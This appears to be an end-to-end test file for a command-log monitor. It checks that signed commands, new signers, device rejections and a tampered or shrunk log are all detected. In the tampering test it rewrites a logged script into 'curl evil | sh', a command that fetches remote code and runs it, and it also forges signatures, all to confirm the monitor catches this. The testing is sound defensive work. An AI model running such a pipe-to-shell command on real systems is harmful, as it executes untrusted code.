/**
 * `palisade monitor` against real processes on loopback: a server on
 * SQLite, a witness, admins with their own keystores, devices enrolled
 * with their own keys. It checks that the monitor prints root v1 and every
 * quorum-signed command with its signers' names, flags a key's first
 * signature, a command aimed at one device of many, device rejections read
 * from the witness and received on --listen (device signatures checked
 * with the keys the server lists), and the server's lies once its database
 * is tampered with; that --once exits 0 or 3; and that its state survives
 * a restart without printing anything twice.
 */
import { after, before, describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createHash } from 'node:crypto'
import Database from 'better-sqlite3'
import { dsse, formatReport, keyId, nodePublicKey, toBase64, REJECTION_PAYLOAD_TYPE } from '@palisade/protocol'
import { freePort } from './free-port.js'
import { setupOrg, PASSPHRASE, type Admin } from './org-setup.js'
import { ok, palisade, Proc } from './proc.js'

interface Event { kind: string; code?: string; summary: string; [k: string]: unknown }

const deviceKey = (i: number) => {
  const seed = new Uint8Array(createHash('sha256').update(`monitor e2e device ${i}`).digest())
  const pub = nodePublicKey(seed)
  return { seed, pub, id: keyId(pub) }
}

describe('palisade monitor', { timeout: 300_000 }, () => {
  const dir = mkdtempSync(join(tmpdir(), 'palisade-monitor-e2e-'))
  const data = join(dir, 'data')
  const home = (who: Admin): Record<string, string> => ({ ...PASSPHRASE, PALISADE_HOME: join(dir, `home-${who}`) })
  let server: Proc
  let witness: Proc
  let monitorProc: Proc | undefined
  let url = ''
  let witnessUrl = ''
  const devices: { id: string; key: ReturnType<typeof deviceKey> }[] = []

  /** One `monitor --once --json` round as carol: exit code and events. */
  const once = async (...extra: string[]): Promise<{ code: number | null; events: Event[]; stderr: string }> => {
    const r = await palisade(['--json', 'monitor', '--once', '--witness-url', witnessUrl, ...extra], home('carol'))
    const events = r.stdout.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Event)
    return { code: r.code, events, stderr: r.stderr }
  }
  const codes = (events: Event[]): string[] => events.filter((e) => e.kind === 'anomaly').map((e) => e.code!)
  const signedCommand = async (targets: string, signers: [Admin, Admin]): Promise<string> => {
    const c = JSON.parse(await ok(['--json', 'command', 'create', '--targets', targets, '--script', 'echo monitored\nexit 0'], home(signers[0])))
    for (const who of signers) await ok(['command', 'sign', c.id, '--key', who, '--yes'], home(who))
    return c.id as string
  }
  const rejection = async (device: (typeof devices)[number], signer = device.key): Promise<string> => {
    const payload = formatReport({ type: 'palisade.rejection/v1', org: 'acme', deviceId: device.id, commandId: 'forged-cmd', code: 'PROTO_SIG_THRESHOLD', message: 'one signature short', at: Date.now() })
    return dsse.formatEnvelope(await dsse.signEnvelope(REJECTION_PAYLOAD_TYPE, payload, [dsse.ed25519Signer(signer.id, signer.seed)]))
  }
  const postReport = async (base: string, body: unknown): Promise<number> =>
    (await fetch(`${base}/palisade/v1/reports`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) })).status

  before(async () => {
    const port = await freePort()
    url = `http://127.0.0.1:${port}`
    server = new Proc(['server', '--listen', `127.0.0.1:${port}`, '--data', data], {}, 'server')
    const setupCode = (await server.waitFor(/setup code[^:]*: ([A-Z0-9-]+)/))[1]!
    await server.waitFor(/listening on http:\/\/127\.0\.0\.1:\d+/)
    const org = await setupOrg(dir, url, setupCode)
    witness = org.witness
    witnessUrl = (await witness.waitFor(/url:\s+(http:\/\/\S+)/))[1]!
  })

  after(async () => {
    await Promise.all([monitorProc?.stop(), server?.stop(), witness?.stop()])
    rmSync(dir, { recursive: true, force: true })
  })

  it('prints root v1 with its admins, exits 0 without anomalies, and prints nothing twice after a restart', async () => {
    const first = await once()
    assert.equal(first.code, 0, first.stderr)
    const root = first.events.find((e) => e.kind === 'root')!
    assert.equal(root['version'], 1)
    assert.match(root.summary, /^root v1 .*admins alice, bob, carol; thresholds command 2/)
    assert.deepEqual(codes(first.events), [])
    const again = await once()
    assert.equal(again.code, 0, again.stderr)
    assert.deepEqual(again.events, [], 'the state file remembers what was printed')
  })

  it('prints a quorum-signed command with its signers by name, and flags each key\'s first signature (exit 3)', async () => {
    const token = JSON.parse(await ok(['--json', 'token', 'create', '--uses', '12'], home('alice'))).token as string
    for (let i = 0; i < 11; i++) {
      const key = deviceKey(i)
      const res = await fetch(`${url}/v1/enroll`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ token, publicKey: toBase64(key.pub), hostname: `host-${i}` }) })
      const text = await res.text()
      assert.equal(res.status, 201, text)
      devices.push({ id: (JSON.parse(text) as { deviceId: string }).deviceId, key })
    }
    const id = await signedCommand('all', ['alice', 'bob'])
    const r = await once()
    assert.equal(r.code, 3, r.stderr)
    assert.match(r.stderr, /CLI_MONITOR_ANOMALIES/)
    const cmd = r.events.find((e) => e.kind === 'command')!
    assert.equal(cmd['id'], id)
    assert.deepEqual(cmd['signers'], ['alice', 'bob'])
    assert.equal(cmd['threshold'], 2)
    assert.equal(cmd['firstLine'], 'echo monitored')
    assert.deepEqual(codes(r.events), ['MON_NEW_SIGNER', 'MON_NEW_SIGNER'])
    assert.deepEqual(r.events.filter((e) => e.code === 'MON_NEW_SIGNER').map((e) => e['signer']), ['alice', 'bob'])
  })

  it('flags only the new signer and a command aimed at 1 of 11 devices, in human lines', async () => {
    const target = devices[3]!
    await signedCommand(target.id, ['bob', 'carol'])
    const r = await palisade(['monitor', '--once', '--witness-url', witnessUrl], home('carol'))
    assert.equal(r.code, 3, r.stderr)
    const lines = r.stdout.trim().split('\n')
    assert.ok(lines.every((l) => /^\d{4}-\d\d-\d\dT\S+Z {2}\S+\s+\S/.test(l)), r.stdout)
    assert.ok(lines.some((l) => /COMMAND .*signed by bob, carol \(2 required, root v1\) → 1 device: \S+ \(host-3\)/.test(l)), r.stdout)
    assert.equal(lines.filter((l) => l.includes('MON_NEW_SIGNER')).length, 1)
    assert.match(lines.find((l) => l.includes('MON_NEW_SIGNER'))!, /carol/)
    assert.match(lines.find((l) => l.includes('MON_FEW_TARGETS'))!, /targets 1 of 11 devices \(the server's device count\)/)
  })

  it('flags rejections read from the witness and received on --listen, checking device signatures', async () => {
    assert.equal(await postReport(witnessUrl, { origin: 'palisade/acme', deviceId: devices[0]!.id, envelope: await rejection(devices[0]!) }), 202)
    const listenPort = await freePort()
    monitorProc = new Proc(['monitor', '--json', '--interval', '1s', '--witness-url', witnessUrl, '--listen', `127.0.0.1:${listenPort}`], home('carol'), 'monitor')
    await monitorProc.waitFor(/"code":"MON_REJECTION".*"signature":"verified","from":"witness /)
    const listen = `http://127.0.0.1:${listenPort}`
    // the first round is done (it read the witness), so the listener knows the org's origin
    assert.equal(await postReport(listen, { origin: 'palisade/acme', deviceId: devices[1]!.id, envelope: await rejection(devices[1]!) }), 202)
    await monitorProc.waitFor(new RegExp(`"code":"MON_REJECTION"[^\\n]*"deviceId":"${devices[1]!.id}"[^\\n]*"signature":"verified","from":"listen 127\\.0\\.0\\.1"`))
    // a report signed by another device's key is printed, marked INVALID
    assert.equal(await postReport(listen, { origin: 'palisade/acme', deviceId: devices[2]!.id, envelope: await rejection(devices[2]!, devices[5]!.key) }), 202)
    await monitorProc.waitFor(new RegExp(`"deviceId":"${devices[2]!.id}"[^\\n]*"signature":"INVALID"`))
    // the same wire's refusals
    assert.equal(await postReport(listen, { origin: 'palisade/other', deviceId: devices[1]!.id, envelope: await rejection(devices[1]!) }), 404)
    assert.equal(await postReport(listen, { origin: 'palisade/acme', deviceId: 'x y', envelope: 'z' }), 400)
    await monitorProc.stop()
    assert.equal(monitorProc.child.exitCode, 0, monitorProc.output)
    assert.equal(monitorProc.output.match(/"from":"witness /g)?.length, 1, 'the witness report is printed once')
    const r = await once()
    assert.deepEqual(codes(r.events), [], 'after a restart the witness report is not printed again')
  })

  it('flags MON_STALE when the newest cosignature is older than --stale-after', async () => {
    await new Promise((r) => setTimeout(r, 1100))
    const r = await once('--stale-after', '1s')
    assert.equal(r.code, 3, r.stderr)
    assert.deepEqual(codes(r.events), ['MON_STALE'])
  })

  it('flags MON_BAD_PROOF when the server serves an altered entry, and MON_FORK when its log shrinks', async () => {
    await signedCommand('all', ['alice', 'bob'])
    const db = new Database(join(data, 'palisade.db'))
    const last = db.prepare('SELECT MAX(idx) AS idx FROM log_entries').get() as { idx: number }
    const row = db.prepare('SELECT leaf_data FROM log_entries WHERE idx = ?').get(last.idx) as { leaf_data: Buffer }
    const env = JSON.parse(row.leaf_data.toString())
    env.payload = Buffer.from(Buffer.from(env.payload, 'base64').toString().replace('echo monitored', 'curl evil | sh')).toString('base64')
    db.prepare('UPDATE log_entries SET leaf_data = ? WHERE idx = ?').run(Buffer.from(JSON.stringify(env)), last.idx)
    const bad = await once()
    assert.equal(bad.code, 3, bad.stderr)
    assert.deepEqual(codes(bad.events), ['MON_BAD_PROOF'])
    assert.ok(!bad.events.some((e) => e.kind === 'command'), 'the altered command is not printed as a signed action')

    // the server now shows an older checkpoint than the monitor verified
    const verified = last.idx // the monitor verified size = last index (the tampered entry is the one after)
    db.prepare('DELETE FROM checkpoints WHERE size >= ?').run(verified)
    db.close()
    const fork = await once()
    assert.equal(fork.code, 3, fork.stderr)
    // the witness still serves the larger checkpoint the server now hides
    assert.deepEqual(codes(fork.events), ['MON_FORK', 'MON_WITNESS_AHEAD'])
    assert.match(fork.events[0]!.summary, /the log shrank/)
  })
})
